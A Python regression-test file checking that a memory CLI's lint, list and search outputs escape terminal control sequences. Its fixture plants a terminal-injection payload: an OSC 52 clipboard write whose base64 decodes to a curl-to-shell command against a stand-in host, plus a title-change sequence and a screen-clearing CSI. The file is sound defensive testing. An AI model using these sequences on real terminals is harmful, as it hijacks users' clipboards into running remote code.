"""Every output of the memory commands goes through one escaping path (issue 37, hole 3).

The attack: two near-identical notes from ``write_memory`` (allowed by default) carrying OSC 52
(set the clipboard), OSC 0 (retitle the terminal) and U+009B (CSI to a UTF-8 terminal). ``mnemara
lint``'s "possible copy" lines obeyed them, and ``lint --json``, ``memory list --json`` and ``memory
search --json`` printed U+009B raw. Now plain outputs go through terminal_safe and JSON through
json_safe (the same JSON, the controls as \\u escapes).
"""
from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.memory_support import call, context, make_instance

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC0 = "\x1b]0;pwned\x07"
CSI = "\x9b2J"
RAW = ("\x1b", "\x07", "\x9b")


@pytest.fixture
def planted(mnemara_home: Path):
    inst, cfg = make_instance("esc")
    ctx = context(inst, cfg)
    text = f"deploy checklist for the staging cluster runs every friday at noon {OSC52}{OSC0}{CSI} ok"
    assert call(ctx, "write_memory", text=text)["ok"]
    assert call(ctx, "write_memory", text=text.replace("noon", "noon sharp"))["ok"]
    return inst, text


def _clean(out: str) -> None:
    for ch in RAW:
        assert ch not in out, f"{ch!r} printed raw"


def test_lint_prints_the_possible_copy_lines_escaped(cli, planted) -> None:
    inst, _ = planted
    done = cli("lint", "--instance", inst.name)
    assert "deploy checklist" in done.stdout, done.stdout  # the candidate lines were printed
    _clean(done.stdout + done.stderr)
    assert "\\x1b]52" in done.stdout and "\\x9b" in done.stdout


def test_lint_fix_asks_and_prints_escaped(cli, planted) -> None:
    inst, _ = planted
    done = cli("lint", "--instance", inst.name, "--fix", input="k\nk\nk\n")
    assert "deploy checklist" in done.stdout
    _clean(done.stdout + done.stderr)


@pytest.mark.parametrize("args", [["lint", "--json"], ["memory", "list", "--json"],
                                  ["memory", "search", "--json", "deploy", "checklist"]],
                         ids=["lint", "list", "search"])
def test_every_json_output_escapes_c1_and_still_parses_to_the_same_text(cli, planted, args) -> None:
    inst, text = planted
    done = cli(*args[:2], "--instance", inst.name, *args[2:]) if args[0] == "memory" else cli(
        args[0], "--instance", inst.name, *args[1:])
    assert done.stdout.strip(), done.stderr
    _clean(done.stdout)
    assert "\\u009b" in done.stdout
    assert CSI in json.dumps(json.loads(done.stdout), ensure_ascii=False)  # the same data, only escaped


def test_plain_memory_list_and_search_stay_escaped(cli, planted) -> None:
    inst, _ = planted
    for args in (["memory", "list"], ["memory", "search"]):
        extra = ["deploy", "checklist"] if args[1] == "search" else []
        done = cli(*args, "--instance", inst.name, *extra)
        _clean(done.stdout + done.stderr)
